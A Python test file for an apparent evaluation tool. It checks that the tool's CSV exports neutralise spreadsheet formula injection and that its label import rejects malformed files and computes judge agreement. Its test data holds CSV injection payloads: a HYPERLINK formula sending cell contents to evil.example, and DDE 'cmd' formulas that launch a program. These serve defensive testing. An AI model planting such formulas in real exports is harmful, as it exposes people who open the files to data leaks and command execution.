"""Human labels, CSV exports and judge agreement against hostile input (docs/agent-yaml.md,
13, 14): the dashboard's ``/runs.csv`` and ``/labels.csv`` (the real server) neutralise
formula-leading cells and their sheet reads back through the real ``holodeck labels import``
whatever its texts hold; every bad labels file is exit 2 naming the file, line and field; the
agreement counts cases, and a file's repeated rows are reported, never silently last-wins."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import urllib.request
from pathlib import Path
from typing import Any

import duckdb
import pytest

from holodeck_core.defaults import MAX_LABELS_FIELD_CHARS
from holodeck_core.history.csv_cells import neutral, restored
from holodeck_core.history.label_files import field_limit
from holodeck_core.history.labels import SHEET_COLUMNS
from tests.dashboard_harness import running
from tests.history_helpers import day, ingest_runs, make_run, query
from tests.hostile import no_traceback, run_cli

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_CASES = {  # case ids an imported history may hold, each a spreadsheet formula
    "refund-policy": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "order-status": "+1+cmd|' /C calc'!A0",
    "weather-paris": "@SUM(1+1)*cmd|' /C calc'!A0",
    "escalation": "'=already quoted",
}
HOSTILE_TEXTS = (
    "-2+3+cmd|' /C calc'!A0",
    "\t=tab first",
    "\r=cr first then a bare \r inside",
    "line\u2028separator\u2029paragraph\x0cform feed\x00nul",
    '"quoted", with, commas\nand\r\nnewlines',
    "''=two quotes then a formula",
)
SHEET_RUN = "run-hostile"


def hostile_history(db: Path, long_chars: int) -> dict[str, str]:
    """A run whose case ids, names and texts are all hostile (one response ``long_chars``
    long); its responses by case id."""
    ingest_runs(db, [make_run("PFPF", day(0), run_id=SHEET_RUN)])
    responses = {}
    with duckdb.connect(str(db)) as con:
        for i, (plain, hostile) in enumerate(HOSTILE_CASES.items()):
            for table in ("test_results", "metric_results", "case_trials"):
                con.execute(f"UPDATE {table} SET case_id = ? WHERE case_id = ?", [hostile, plain])
            text = HOSTILE_TEXTS[i] + (" x" * (long_chars // 2) if i == 1 else "")
            responses[hostile] = text
            con.execute(
                "UPDATE test_results SET agent_response = ?, test_input = ?, ground_truth = ?, "
                "test_name = ? WHERE case_id = ?",
                [text, HOSTILE_TEXTS[-1 - i], HOSTILE_TEXTS[i - 2], hostile, hostile],
            )
        con.execute(
            "UPDATE eval_runs SET agent_name = '=cmd|'' /C calc''!A0', model_name = '@SUM(A1)', "
            "prompt_version = '-v1+1', trigger = '+nightly'"
        )
    return responses


def get(url: str) -> str:
    with urllib.request.urlopen(url, timeout=60) as answer:
        return str(answer.read().decode("utf-8"))


def cells(text: str) -> list[list[str]]:
    with field_limit(MAX_LABELS_FIELD_CHARS):
        return list(csv.reader(io.StringIO(text, newline="")))


def assert_neutral(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULAS), cell[:40]


@pytest.mark.parametrize("long_chars", [140_000, MAX_LABELS_FIELD_CHARS + 1_000])
def test_the_dashboards_csv_is_neutral_and_its_sheet_reads_back_through_the_cli(
    tmp_path: Path, long_chars: int
) -> None:
    db = tmp_path / "history.duckdb"
    responses = hostile_history(db, long_chars)
    with (tmp_path / "server.log").open("w") as log, running(db, log) as base:
        runs = cells(get(f"{base}/runs.csv"))
        sheet_text = get(f"{base}/labels.csv?run={SHEET_RUN}")
    assert_neutral(runs)
    assert [restored(c) for c in runs[1][1:5]] == ["=cmd|' /C calc'!A0", "-v1+1", "@SUM(A1)",
                                                   "+nightly"]  # fmt: skip
    sheet = cells(sheet_text)
    assert_neutral(sheet)
    header, rows = sheet[0], sheet[1:]
    assert header == list(SHEET_COLUMNS) and len(rows) == 2 * len(HOSTILE_CASES)
    with duckdb.connect(str(db), read_only=True) as con:
        stored = con.execute(
            "SELECT case_id, test_name, test_input, ground_truth FROM test_results"
        ).fetchall()
    texts = {row[0]: row for row in stored}
    for row in rows:  # every text as stored, but the cut one
        found = dict(zip(header, map(restored, row), strict=True))
        case = found["case_id"]
        assert (case, found["test_name"], found["input"], found["ground_truth"]) == texts[case]
        if len(responses[case]) <= MAX_LABELS_FIELD_CHARS:
            assert found["response"] == responses[case]
        else:
            assert len(found["response"]) == MAX_LABELS_FIELD_CHARS - 1
            assert responses[case].startswith(found["response"].split(" … [cut: ")[0])
    notes = {}
    for i, row in enumerate(rows):  # a person fills it in; their own notes are hostile too
        row[header.index("human_passed")] = "pass" if i % 2 else "fail"
        row[header.index("labeler")] = "@ann"
        note = HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)]
        notes[restored(row[1]), restored(row[6])] = note
        row[header.index("note")] = neutral(note)
    path = tmp_path / "labels.csv"
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([header, *rows])
    proc = subprocess.run(
        [sys.executable, "-m", "holodeck_core.cli", "labels", "import", str(path), "--db", str(db)],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    no_traceback(proc)
    assert proc.returncode == 0, proc.stderr
    assert f"imported {len(rows)} label(s) of {len(HOSTILE_CASES)} case(s)" in proc.stdout
    labelled = query(db, "SELECT case_id, metric_name, labeler, note FROM human_labels")
    assert {(c, m): n for c, m, _, n in labelled} == notes
    assert {labeler for _, _, labeler, _ in labelled} == {"@ann"}


def test_a_jsonl_file_keeps_line_separators_inside_its_texts(tmp_path: Path) -> None:
    db = tmp_path / "history.duckdb"
    hostile_history(db, 10)
    path = tmp_path / "labels.jsonl"
    lines = [
        {"run_id": SHEET_RUN, "case_id": case, "metric_name": "faithfulness",
         "human_passed": "pass", "labeler": "bo", "note": HOSTILE_TEXTS[i]}
        for i, case in enumerate(HOSTILE_CASES.values())
    ]  # fmt: skip
    path.write_text("\n".join(json.dumps(line, ensure_ascii=False) for line in lines) + "\r\n")
    proc = run_cli(["labels", "import", str(path), "--db", str(db)])
    assert proc.returncode == 0, proc.stderr
    assert sorted(query(db, "SELECT case_id, note FROM human_labels")) == sorted(
        (line["case_id"], line["note"]) for line in lines
    )


def test_history_csv_output_is_neutral_and_keeps_numbers(tmp_path: Path) -> None:
    db = tmp_path / "history.duckdb"
    hostile_history(db, 10)
    sql = "SELECT case_id, -1.5 AS minus, agent_response FROM test_results ORDER BY case_id"
    proc = run_cli(["history", "sql", sql, "--db", str(db), "--format", "csv"])
    assert proc.returncode == 0, proc.stderr
    rows = cells(proc.stdout)
    assert_neutral([row[::2] for row in rows])
    assert {row[1] for row in rows[1:]} == {"-1.5"}
    assert sorted(tuple(map(restored, row[::2])) for row in rows[1:]) == sorted(
        query(db, "SELECT case_id, agent_response FROM test_results")
    )


def test_neutral_is_undone_exactly_by_restored() -> None:
    shapes = ["", "'", "''", "'a", "=1", "'=1", "''=1", "a=1", "-", "@", "\t", "\r", "'\t", "x"]
    for text in shapes:
        assert restored(neutral(text)) == text
        assert not str(neutral(text)).startswith(FORMULAS)
    assert neutral(-1.5) == -1.5 and neutral(None) is None


LABEL = {"run_id": SHEET_RUN, "case_id": "order-status", "metric_name": "faithfulness",
         "human_passed": "pass", "labeler": "cy"}  # fmt: skip


def csv_file(path: Path, rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([[*list(LABEL), "note"], *rows])
    return out.getvalue().encode()


def bad_files(path: Path) -> list[tuple[str, bytes, str]]:
    """(file name, bytes, what the message says after ``FILE:LINE: ``)."""
    good = list(LABEL.values())
    deep = '{"run_id": ' + "[" * 100_000 + "]" * 100_000 + "}"
    return [
        ("latin1.csv", csv_file(path, [[*good, "ok"], [*good[:3], "pass", "cy", "café"]])
         .replace(b"caf\xc3\xa9", b"caf\xe9"), "3: note: not UTF-8"),
        ("latin1.jsonl", json.dumps(LABEL).encode() + b"\n{\"note\": \"\xff\"}\n",
         "2: note: not UTF-8"),
        ("latin1raw.jsonl", b"\xff{}\n", "1: not UTF-8"),
        ("surrogate.jsonl", b'{"run_id": "\\udc80"}\n', "1: run_id: not UTF-8"),
        ("long.csv", csv_file(path, [[*good, "x" * (MAX_LABELS_FIELD_CHARS + 1)]]),
         "2: note: longer than 16,777,216 characters"),
        ("long.jsonl", json.dumps({**LABEL, "note": "x" * (MAX_LABELS_FIELD_CHARS + 1)})
         .encode(), "1: note: longer than"),
        ("deep.jsonl", (json.dumps(LABEL) + "\n" + deep).encode(), "2: JSON nested deeper"),
        ("columns.csv", csv_file(path, [[*good, "a", "b"], good]), "2: 7 field(s) where the "
         "header has 6"),
        ("short.csv", csv_file(path, [good[:2]]), "2: 2 field(s) where the header has 6"),
        ("twice.csv", b"run_id,case_id,metric_name,note,note\r\n", "1: note: a column named"),
        ("noheader.csv", b"", "the header lacks case_id, metric_name, run_id"),
        ("notjson.jsonl", b'{"run_id": 1}\n{nope\n', "2: not JSON"),
        ("conflict.csv", csv_file(path, [[*good, "a"], [*good[:3], "fail", "cy", "a"]]),
         "3: labels case 'order-status' (faithfulness, labeler 'cy') again, unlike line 2"),
    ]  # fmt: skip


def test_bad_label_files_exit_2_naming_file_line_and_field(tmp_path: Path) -> None:
    db = tmp_path / "history.duckdb"
    ingest_runs(db, [make_run("PFPF", day(0), run_id=SHEET_RUN)])
    for name, data, says in bad_files(tmp_path):
        path = tmp_path / name
        path.write_bytes(data)
        proc = run_cli(["labels", "import", str(path), "--db", str(db)])
        no_traceback(proc)
        assert proc.returncode == 2, (name, proc.stderr)
        assert f"{path}:{says}" in proc.stderr or f"{path}: {says}" in proc.stderr, (
            name, proc.stderr[:500])  # fmt: skip
        assert query(db, "SELECT count(*) FROM human_labels") == [(0,)], name


def labels_of(rows: list[tuple[str, str, bool, float | None]]) -> str:
    return "\n".join(
        json.dumps({"run_id": SHEET_RUN, "case_id": case, "metric_name": "faithfulness",
                    "labeler": who, "human_passed": passed, "human_score": score})
        for case, who, passed, score in rows
    )  # fmt: skip


def agreement(db: Path) -> tuple[Any, ...]:
    [row] = query(
        db,
        "SELECT n, kappa, n_human_fails, n_human_passes, n_scores, mean_bias "
        "FROM v_judge_agreement",
    )
    return row


def test_agreement_counts_cases_not_labels(tmp_path: Path) -> None:
    """The judge passes refund-policy and weather-paris (0.9), fails the others (0.2)."""
    db = tmp_path / "history.duckdb"
    ingest_runs(db, [make_run("PFPF", day(0), run_id=SHEET_RUN)])
    path = tmp_path / "labels.jsonl"
    many = [("refund-policy", f"person-{i}", True, 0.8) for i in range(20_000)]
    path.write_text(labels_of([*many, ("order-status", "ann", False, 0.2)]))
    proc = run_cli(["labels", "import", str(path), "--db", str(db)])
    assert proc.returncode == 0, proc.stderr
    assert "imported 20001 label(s) of 2 case(s)" in proc.stdout
    assert "agreement counts cases" in proc.stdout and "n = 2)" in proc.stdout
    assert agreement(db) == (2, 1.0, 1, 1, 2, pytest.approx(0.05))
    # three people on weather-paris: the majority fails it; two on escalation tie (no verdict)
    path.write_text(labels_of([
        ("weather-paris", "ann", False, 0.1), ("weather-paris", "bo", False, 0.3),
        ("weather-paris", "cy", True, 0.8), ("escalation", "ann", True, 0.4),
        ("escalation", "bo", False, 0.0),
    ]))  # fmt: skip
    assert run_cli(["labels", "import", str(path), "--db", str(db)]).returncode == 0
    # cases (judge, people): refund (P, P), order (F, F), weather (P, F); escalation scores only
    po, pj, ph = 2 / 3, 2 / 3, 1 / 3
    pe = pj * ph + (1 - pj) * (1 - ph)
    bias = ((0.9 - 0.8) + (0.2 - 0.2) + (0.9 - 0.4) + (0.2 - 0.2)) / 4
    assert agreement(db) == (3, pytest.approx((po - pe) / (1 - pe)), 2, 1, 4,
                             pytest.approx(bias))  # fmt: skip


def test_repeated_rows_are_reported_and_differing_ones_refused(tmp_path: Path) -> None:
    db = tmp_path / "history.duckdb"
    ingest_runs(db, [make_run("PFPF", day(0), run_id=SHEET_RUN)])
    path = tmp_path / "labels.jsonl"
    same = ("order-status", "ann", False, 0.2)
    path.write_text(labels_of([same, ("escalation", "ann", False, None), same, same]))
    proc = run_cli(["labels", "import", str(path), "--db", str(db)])
    assert proc.returncode == 0, proc.stderr
    assert "2 row(s) repeating an earlier one word for word counted once: line(s) 3, 4" in (
        proc.stdout
    )
    assert query(db, "SELECT count(*) FROM human_labels") == [(2,)]
    path.write_text(labels_of([("order-status", "bo", False, 0.2), ("escalation", "bo", True, 0.2),
                               ("order-status", "bo", True, 0.2)]))  # fmt: skip
    proc = run_cli(["labels", "import", str(path), "--db", str(db)])
    no_traceback(proc)
    assert proc.returncode == 2 and f"{path}:3: labels case 'order-status'" in proc.stderr
    assert "unlike line 1" in proc.stderr
    assert query(db, "SELECT count(*) FROM human_labels WHERE labeler = 'bo'") == [(0,)]
